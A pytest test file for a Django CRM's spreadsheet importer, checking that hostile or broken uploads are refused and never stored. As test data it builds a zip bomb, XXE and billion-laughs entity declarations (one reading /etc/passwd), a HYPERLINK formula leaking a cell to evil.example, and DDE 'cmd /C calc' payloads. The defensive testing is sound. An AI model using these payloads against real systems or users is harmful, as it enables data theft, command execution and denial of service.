"""Files that are too big, not spreadsheets at all, damaged, or built to hurt the server (zip bombs, XML
entities, formulas waiting to run in a spreadsheet program). Each is refused with a message the importer
can act on, and nothing is written: refused at upload (ValidationError, no job), or by the worker (the job
ends "failed" with its error) before a single row is stored."""

import codecs
import csv
import io
import random
import struct
import zipfile
import zlib

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.utils import translation

from crm.imports import services
from crm.imports.models import ImportJob, ImportRow
from customers.models import Customer

from .conftest import FILES, commit, run_to_preview, upload, xlsx_bytes

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("either_reader")]

A_LIST = [["姓名", "手机"], ["张三", "13812345678"], ["李四", "13912345678"]]


@pytest.fixture(autouse=True)
def english():
    """Jobs take the uploader's language; messages are asserted in English, whatever the catalogue says."""
    with translation.override("en"):
        yield


def refused_at_upload(actor, content: bytes, name: str) -> str:
    """The message of the upload's refusal; nothing was stored, not even a job."""
    with pytest.raises(ValidationError) as refusal:
        services.import_job_create(actor=actor, resource_key="customers.customer", upload=upload(content, name))
    assert not ImportJob.objects.exists() and not Customer.objects.exists()
    return refusal.value.messages[0]


def failed(actor, content: bytes, name: str = "客户名单.xlsx") -> str:
    """The error of a job the worker gave up on; no row of it was stored, no customer written."""
    job = run_to_preview(actor, content, name)
    assert job.status == "failed", (job.status, job.counts)
    assert not ImportRow.objects.filter(job=job).exists()
    assert not Customer.objects.exists()
    return job.error


def rezip(content: bytes, *, replace=None, add=None, compression=zipfile.ZIP_DEFLATED) -> bytes:
    """The zip ``content`` with some parts' bytes replaced ({name: bytes}) and parts added."""
    source = zipfile.ZipFile(io.BytesIO(content))
    replace, add = replace or {}, add or {}
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", compression) as target:
        for name in source.namelist():
            target.writestr(name, replace.get(name, source.read(name)))
        for name, data in add.items():
            target.writestr(name, data)
    return output.getvalue()


def libreoffice_xlsx() -> bytes:
    """A workbook saved by LibreOffice Calc: unlike openpyxl's, its text is in xl/sharedStrings.xml."""
    return (FILES / "customers.xlsx").read_bytes()


def shared_strings_with(doctype: str, *, reference: str, before: str = "", encoding: str = "utf-8") -> bytes:
    """LibreOffice's sharedStrings.xml with ``doctype`` after its XML declaration (after ``before``), and
    the text 张三 replaced by ``reference``."""
    original = zipfile.ZipFile(io.BytesIO(libreoffice_xlsx())).read("xl/sharedStrings.xml").decode()
    declaration, body = original.split("?>", 1)
    if encoding != "utf-8":
        declaration = declaration.replace('encoding="UTF-8"', f'encoding="{encoding.upper()}"')
    assert ">张三</t>" in body
    return codecs.encode(declaration + "?>" + before + doctype + body.replace(">张三</t>", f">{reference}</t>", 1),
                         encoding)


# --------------------------------------------------------------------------------------- refused at upload


def test_a_file_over_the_size_limit_is_refused_before_it_is_stored(admin_user, settings):
    settings.CRM_IMPORT_MAX_BYTES = 1_048_576
    content = ("姓名,手机\r\n" + "张三,13812345678\r\n" * 70_000).encode()  # 1,400,014 bytes
    message = refused_at_upload(admin_user, content, "客户名单.csv")
    assert message == "The file is 1.3 MB; the limit is 1 MB."


def test_an_empty_file_is_refused(admin_user):
    assert refused_at_upload(admin_user, b"", "客户名单.xlsx") == "The file is empty."


def _png() -> bytes:
    """A real 1×1 PNG image."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def _exe() -> bytes:
    """The start of a Windows program: MZ header, DOS stub, PE signature."""
    header = bytearray(b"MZ" + b"\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 46)
    header[0x3C:0x40] = struct.pack("<I", 0x80)
    return bytes(header) + b"\x00" * (0x80 - len(header)) + b"PE\x00\x00" + b"\x00" * 400


def _pdf() -> bytes:
    """A small but complete PDF, all of it plain ASCII (as a PDF with uncompressed streams is)."""
    stream = b"BT /F1 12 Tf 72 720 Td (Customers) Tj ET"
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
               b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream)]
    body, offsets = b"%PDF-1.4\n", []
    for number, obj in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, obj)
    xref = b"xref\n0 5\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    return body + xref + b"trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(body)


@pytest.mark.parametrize("content", [_png(), _exe(), _pdf(), random.Random(3).randbytes(20_000)],
                         ids=["png", "exe", "pdf", "random bytes"])
def test_a_file_that_is_not_a_spreadsheet_is_refused_whatever_its_name(admin_user, content):
    # given an image, a program, a PDF or noise, named as a workbook
    # when it is uploaded
    message = refused_at_upload(admin_user, content, "客户名单.xlsx")
    # then it is refused by what it is
    assert message == "This is not a spreadsheet: upload an .xlsx, .xls or .csv file."


@pytest.mark.parametrize("content", [
    '<html><head><meta charset="utf-8"></head><body><table><tr><td>姓名</td><td>手机</td></tr>'
    "<tr><td>张三</td><td>13812345678</td></tr></table></body></html>".encode(),
    '\ufeff<?xml version="1.0"?>\r\n<?mso-application progid="Excel.Sheet"?>\r\n<Workbook '
    'xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="客户"/></Workbook>'.encode(),
], ids=["html table", "excel 2003 xml"])
def test_a_web_page_or_xml_file_named_xls_is_refused_with_how_to_convert_it(admin_user, content):
    # given what many business systems export as "Excel": an HTML table, or Excel 2003 XML, named .xls
    message = refused_at_upload(admin_user, content, "客户导出.xls")
    assert message == "This file is a web page or an XML file, not a workbook: open it in Excel and save it as .xlsx."


def test_a_utf16_text_file_is_refused_with_how_to_save_it_instead(admin_user):
    # given Excel's "Unicode text" (UTF-16 with a byte order mark, tab separated)
    content = codecs.BOM_UTF16_LE + "姓名\t手机\r\n张三\t13812345678\r\n".encode("utf-16-le")
    message = refused_at_upload(admin_user, content, "客户名单.csv")
    assert message == 'This text file is UTF-16; save it from Excel as "CSV UTF-8" or as .xlsx.'


def test_a_csv_with_a_nul_byte_near_its_start_is_refused_at_upload(admin_user):
    content = "姓名,手机\r\n张三\x00,13812345678\r\n".encode()
    assert refused_at_upload(admin_user, content, "客户名单.csv") == (
        "This is not a spreadsheet: upload an .xlsx, .xls or .csv file.")


# ---------------------------------------------------------------------------------- refused by the worker


@pytest.mark.parametrize("encoding", ["utf-8", "gbk"])
def test_a_csv_with_a_nul_byte_further_down_fails_naming_the_line(admin_user, encoding):
    # given a CSV whose first 8 KB look like text, with a NUL byte on line 500
    lines = ["姓名,手机"] + [f"客户{i},1381234{i:04d}" for i in range(2, 1000)]
    lines[499] = "客户500\x00,13812340500"
    content = "\r\n".join(lines).encode(encoding)
    # when it is read
    error = failed(admin_user, content, "客户名单.csv")
    # then the job fails, pointing at the line
    assert error == "The CSV file contains a NUL byte on line 500: it is not text. Save it from Excel as " \
                    '"CSV UTF-8" or as .xlsx.'


def test_control_characters_hidden_in_an_xlsx_are_dropped_not_stored(admin_user):
    # given a workbook whose cells hold NUL and escape characters, written as Excel writes them (_x0000_)
    content = xlsx_bytes([["姓名", "手机", "备注"], ["张_x0000_三", "13812345678_x0000_", "_x001B_[31m红字"]])
    # when it is imported
    job = run_to_preview(admin_user, content)
    commit(admin_user, job)
    # then the customer is written without them (PostgreSQL could not even store a NUL)
    zs = Customer.objects.get()
    assert (zs.name, str(zs.mobile), zs.notes) == ("张三", "+8613812345678", "[31m红字")


def test_a_csv_in_an_encoding_that_is_neither_utf8_nor_gbk_fails_with_how_to_save_it(admin_user):
    content = "姓名,手机\r\n".encode() + b"\x81\x30\xff\xfe,13812345678\r\n"  # no UTF-8, no GB18030
    error = failed(admin_user, content, "客户名单.csv")
    assert error == 'The CSV file is neither UTF-8 nor GBK text; save it from Excel as "CSV UTF-8" or as .xlsx.'


def test_a_truncated_xlsx_fails_as_damaged(admin_user):
    # given a workbook cut off half way through its upload or its copy
    content = xlsx_bytes(A_LIST)
    error = failed(admin_user, content[: len(content) // 2])
    assert error == "The .xlsx file is damaged and cannot be opened."


def test_an_xlsx_with_corrupt_compressed_data_fails_as_damaged(admin_user):
    # given a workbook whose zip directory is intact but whose sheet's compressed bytes were overwritten
    content = bytearray(xlsx_bytes(A_LIST))
    info = zipfile.ZipFile(io.BytesIO(bytes(content))).getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    content[start: start + info.compress_size] = random.Random(1).randbytes(info.compress_size)
    # when it is read, the job fails saying so (and is not left "reading" for the watchdog to give up on)
    assert failed(admin_user, bytes(content)) == "The .xlsx file is damaged and cannot be opened."


def test_an_xlsx_whose_sheet_is_not_xml_fails_saying_it_cannot_be_read(admin_user):
    content = rezip(xlsx_bytes(A_LIST), replace={"xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row><c>"})
    error = failed(admin_user, content)
    assert error.startswith(("The spreadsheet cannot be read: ", "The .xlsx file is damaged and cannot be opened."))
    assert "no sheet named" not in error


@pytest.mark.parametrize("parts", [
    {"hello.txt": b"hello"},
    {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"},  # a Word document
    {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<office:document/>"},  # .ods
], ids=["zip", "docx", "ods"])
def test_a_zip_that_is_not_an_excel_workbook_fails(admin_user, parts):
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    assert failed(admin_user, output.getvalue()) == "This zip file is not an Excel workbook."


def test_a_zip_bomb_is_refused_by_its_compression_ratio_before_it_is_unpacked(admin_user):
    # given a real workbook carrying a 40 MB part of zeros, which deflate packs into 40 KB
    content = rezip(xlsx_bytes(A_LIST), add={"xl/media/image1.png": bytes(40_000_000)})
    assert len(content) < 100_000
    # when it is read
    error = failed(admin_user, content)
    # then it is refused from its zip directory alone
    assert error == "The file unpacks to 40 MB, too much for its size: it was not read."


def test_a_workbook_unpacking_to_more_than_the_limit_is_refused_even_when_it_compresses_poorly(admin_user, settings):
    # given a limit of 5 MB unpacked, and a workbook of 6 MB that zip cannot shrink (stored, random bytes)
    settings.CRM_IMPORT_MAX_UNCOMPRESSED_BYTES = 5_000_000
    content = rezip(xlsx_bytes(A_LIST), add={"xl/media/image1.png": random.Random(2).randbytes(6_000_000)},
                    compression=zipfile.ZIP_STORED)
    # when it is read, it is refused by its unpacked size
    assert failed(admin_user, content) == "The file unpacks to 6 MB, too much for its size: it was not read."


def test_a_zip_holding_too_many_parts_is_refused(admin_user, settings):
    settings.CRM_IMPORT_MAX_ZIP_ENTRIES = 50
    content = rezip(xlsx_bytes(A_LIST), add={f"xl/media/image{i}.png": b"x" for i in range(60)})
    error = failed(admin_user, content)
    assert error == "The file holds 69 parts; a spreadsheet has far fewer. It was not read."


def _declare(content: bytes, name: str, *, crc: int, size: int) -> bytes:
    """``content`` with the zip entry ``name`` declaring another checksum and unpacked size, in its local
    header and in the central directory alike."""
    data = bytearray(content)
    directory = struct.unpack_from("<I", data, data.rfind(b"PK\x05\x06") + 16)[0]
    while data[directory: directory + 4] == b"PK\x01\x02":
        name_length, extra_length, comment_length = struct.unpack_from("<HHH", data, directory + 28)
        if data[directory + 46: directory + 46 + name_length] == name.encode():
            local = struct.unpack_from("<I", data, directory + 42)[0]
            struct.pack_into("<I", data, local + 14, crc)
            struct.pack_into("<I", data, local + 22, size)
            struct.pack_into("<I", data, directory + 16, crc)
            struct.pack_into("<I", data, directory + 24, size)
        directory += 46 + name_length + extra_length + comment_length
    return bytes(data)


def test_a_zip_entry_lying_about_its_unpacked_size_is_not_unpacked_past_it(admin_user):
    # given a workbook whose sheet declares 200 bytes (with the checksum of its first 200) and unpacks to 3 MB
    sheet = zipfile.ZipFile(io.BytesIO(xlsx_bytes(A_LIST))).read("xl/worksheets/sheet1.xml")
    padded = sheet.replace(b"</sheetData>", b"".join(
        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>' % (i, i) for i in range(4, 50_000))
        + b"</sheetData>")
    content = rezip(xlsx_bytes(A_LIST), replace={"xl/worksheets/sheet1.xml": padded})
    content = _declare(content, "xl/worksheets/sheet1.xml", crc=zlib.crc32(padded[:200]), size=200)
    assert zipfile.ZipFile(io.BytesIO(content)).getinfo("xl/worksheets/sheet1.xml").file_size == 200
    # when it is read, it fails as a damaged file
    error = failed(admin_user, content)
    assert error.startswith(("The .xlsx file is damaged", "The spreadsheet cannot be read: "))


def test_a_sheet_with_more_rows_than_allowed_fails_asking_to_split_it(admin_user, settings):
    settings.CRM_IMPORT_MAX_ROWS = 100
    content = xlsx_bytes([["姓名", "手机"]] + [[f"客户{i}", f"1381234{i:04d}"] for i in range(200)])
    assert failed(admin_user, content) == "The sheet has more than 100 rows; split it into several files."


def test_a_csv_with_more_rows_than_allowed_fails_asking_to_split_it(admin_user, settings):
    settings.CRM_IMPORT_MAX_ROWS = 100
    content = ("姓名,手机\r\n" + "".join(f"客户{i},1381234{i:04d}\r\n" for i in range(200))).encode()
    error = failed(admin_user, content, "客户名单.csv")
    assert error == "The sheet has more than 100 rows; split it into several files."


# ------------------------------------------------------------------------------------------------ XML attacks

ENTITIES_REFUSED = "The workbook contains XML entity declarations, which spreadsheets never need: it was not read."
XXE = '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS = ('<!DOCTYPE sst [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1 if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
          + "]>")


@pytest.mark.parametrize("shared_strings", [
    shared_strings_with(XXE, reference="&xxe;"),
    shared_strings_with(LAUGHS, reference="&lol9;"),
    shared_strings_with(XXE, reference="&xxe;", before="<!--" + "填充" * 4000 + "-->"),
    shared_strings_with(XXE, reference="&xxe;", encoding="utf-16"),
], ids=["external entity", "billion laughs", "after a long comment", "utf-16"])
def test_shared_strings_declaring_entities_are_refused_before_any_parser_reads_them(admin_user, shared_strings):
    # given a workbook saved by LibreOffice whose shared strings declare an entity and use it for 张三
    content = rezip(libreoffice_xlsx(), replace={"xl/sharedStrings.xml": shared_strings})
    # when it is read
    error = failed(admin_user, content)
    # then it is refused for its declarations, and no file of the server made its way into the job
    assert error == ENTITIES_REFUSED
    job = ImportJob.objects.get()
    assert "root:" not in str(job.headers) + str(job.sample) + job.error


def test_a_doctype_in_a_part_not_named_xml_is_refused_too(admin_user):
    # given the sheet moved to a part named .dat (the workbook's relationships follow it), with a DOCTYPE
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes(A_LIST)))
    sheet = source.read("xl/worksheets/sheet1.xml")
    rels = source.read("xl/_rels/workbook.xml.rels").replace(b"worksheets/sheet1.xml", b"worksheets/sheet1.dat")
    types = source.read("[Content_Types].xml").replace(b"/xl/worksheets/sheet1.xml", b"/xl/worksheets/sheet1.dat")
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            if name != "xl/worksheets/sheet1.xml":
                target.writestr(name, {"xl/_rels/workbook.xml.rels": rels, "[Content_Types].xml": types}.get(
                    name, source.read(name)))
        target.writestr("xl/worksheets/sheet1.dat", sheet.replace(b"<worksheet", XXE.encode() + b"<worksheet", 1))
    # when it is read, it is refused
    assert failed(admin_user, output.getvalue()) == ENTITIES_REFUSED


# ------------------------------------------------------------------------------------------------- formulas

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


def _text_cells(rows) -> bytes:
    """An .xlsx whose cells are text even where they start with "=" (typed after an apostrophe in Excel)."""
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    for row in workbook.active.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


@pytest.mark.parametrize("name", ["客户名单.xlsx", "客户名单.csv"])
def test_formula_looking_cells_are_stored_as_plain_text(admin_user, name):
    # given a list whose names and notes look like formulas
    rows = [["姓名", "手机", "备注"]] + [[f"客户{i}{formula}", f"1381234{i:04d}", formula]
                                         for i, formula in enumerate(FORMULAS)]
    if name.endswith(".csv"):
        buffer = io.StringIO()
        csv.writer(buffer).writerows(rows)
        content = buffer.getvalue().encode("utf-8-sig")
    else:
        content = _text_cells(rows)
    # when it is imported
    job = run_to_preview(admin_user, content, name)
    commit(admin_user, job)
    # then each customer holds the text exactly as written, never a computed value
    assert sorted(Customer.objects.values_list("notes", flat=True)) == sorted(FORMULAS)


def test_formula_looking_cells_come_out_of_the_rejected_rows_report_as_text(admin_user):
    # given rows rejected for their phone, whose cells look like formulas
    rows = [["姓名", "手机", "备注"]] + [[formula, formula, formula] for formula in FORMULAS]
    job = run_to_preview(admin_user, _text_cells(rows), skip_invalid=True)
    assert job.counts["invalid"] == len(FORMULAS)
    # when the importer downloads the rejected rows
    report = openpyxl.load_workbook(io.BytesIO(services.error_report(job))).active
    # then no cell of it is a formula, and the formula-looking ones are shown as text behind an apostrophe
    cells = [cell for row in report.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert [[c.value for c in row[:3]] for row in report.iter_rows(min_row=2)] == [
        ["'" + formula] * 3 for formula in FORMULAS]
    reasons = [row[3].value for row in report.iter_rows(min_row=2)]
    assert reasons[0] == f"手机: {FORMULAS[0]} is not a valid phone number."


def test_a_header_that_looks_like_a_formula_does_not_turn_the_reason_column_into_a_formula(admin_user):
    # given a list whose mobile column is headed "=手机" (still recognised as the mobile), with a bad mobile
    job = run_to_preview(admin_user, _text_cells([["姓名", "=手机"], ["张三", "12345"]]), skip_invalid=True)
    assert job.mapping == {"0": "name", "1": "mobile"}
    # when the importer downloads the rejected rows
    report = openpyxl.load_workbook(io.BytesIO(services.error_report(job))).active
    # then the reason is text, not a formula
    assert [cell.data_type for cell in report[2]] == ["s", "s", "s", "n"]
